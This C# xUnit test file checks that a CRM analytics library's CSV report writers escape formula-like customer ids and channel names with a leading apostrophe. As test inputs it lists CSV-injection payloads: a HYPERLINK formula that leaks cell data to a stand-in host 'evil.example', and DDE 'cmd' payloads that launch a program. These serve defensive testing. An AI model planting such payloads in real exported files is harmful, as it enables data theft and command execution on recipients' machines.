using System.Globalization;
using Clv.Crm;
using Clv.Csv;
using Clv.Csv.Internal;
using Clv.Valuation;

namespace Clv.Tests.Csv;

/// <summary>
/// CSV injection: text from the data (customer ids, channel names) that starts like a spreadsheet formula is written with a
/// leading <c>'</c> by the report writers, so Excel shows it as text; numbers stay numbers; the transaction log reads back as written.
/// </summary>
public class CsvFormulaInjectionTests
{
    public static readonly TheoryData<string> Formulas = new()
    {
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    };

    private static CustomerSummaries Customers(string id) => CustomerSummaries.FromTransactions(
        [
            new Transaction(id, new DateOnly(2024, 1, 5), 20),
            new Transaction(id, new DateOnly(2024, 3, 5), 30),
            new Transaction("plain", new DateOnly(2024, 2, 1), 10),
        ],
        new DateOnly(2024, 6, 30),
        TimeUnit.Week);

    /// <summary>The first field of each data line (quoted fields unquoted).</summary>
    private static string[] FirstFields(string csv) =>
        [.. ReadLines(csv).Skip(1).Select(line => ScorecardCsvTests.Fields(line)[0])];

    /// <summary>RFC 4180 records (a quoted field may hold CR).</summary>
    private static IEnumerable<string> ReadLines(string csv)
    {
        int start = 0;
        bool quoted = false;
        for (int i = 0; i < csv.Length; i++)
        {
            if (csv[i] == '"')
            {
                quoted = !quoted;
            }
            else if (!quoted && csv[i] == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                yield return csv[start..i];
                start = i + 2;
                i++;
            }
        }
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public void ScorecardCsv_IdStartingLikeAFormula_WrittenAsText(string id)
    {
        var card = Scorecard.Create(Customers(id), ScorecardOptions.Default);
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        ScorecardCsv.Write(writer, card);
        Assert.Equal(["'" + id, "plain"], FirstFields(writer.ToString()));

        // Rows formatted in chunks on other threads: the same text.
        var chunked = new StringWriter(CultureInfo.InvariantCulture);
        ScorecardCsv.Write(chunked, card, chunkRows: 1);
        Assert.Equal(writer.ToString(), chunked.ToString());
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public void CustomerSummaryCsv_IdStartingLikeAFormula_WrittenAsText(string id)
    {
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        CustomerSummaryCsv.Write(writer, Customers(id));
        Assert.Equal(["'" + id, "plain"], FirstFields(writer.ToString()));
    }

    [Fact]
    public void ChannelReportCsv_ChannelStartingLikeAFormula_WrittenAsText()
    {
        var report = ChannelReport.Create([new ChannelCustomer("=1+1", 10, 50, 5), new ChannelCustomer("email", 2, 20, 2)], TimeUnit.Month);
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        ChannelReportCsv.Write(writer, report);
        Assert.Equal(["'=1+1", "email"], FirstFields(writer.ToString()));
    }

    [Fact]
    public void Numbers_Negative_AreNotEscaped()
    {
        var text = new StringWriter(CultureInfo.InvariantCulture);
        using (var table = new CsvTable(text))
        {
            table.Field(-5L);
            table.Field(-3.75);
            table.Field(-Math.Pow(2, -25));   // written with 17 digits (see CsvTable.Field(double))
            table.Field(double.NegativeInfinity);
            table.Field(-1);
            table.EndRow();
        }

        Assert.Equal("-5,-3.75,-2.9802322387695312E-08,-Infinity,-1\r\n", text.ToString());
    }

    [Fact]
    public void TransactionCsv_IdStartingLikeAFormula_ReadsBackAsWritten()
    {
        Transaction[] rows = [new("=1+1", new DateOnly(2024, 1, 5), 20), new("-7", new DateOnly(2024, 1, 6), -5)];
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        TransactionCsv.Write(writer, rows);
        Assert.Equal("customer_id,date,amount\r\n=1+1,2024-01-05,20\r\n-7,2024-01-06,-5\r\n", writer.ToString());
    }
}
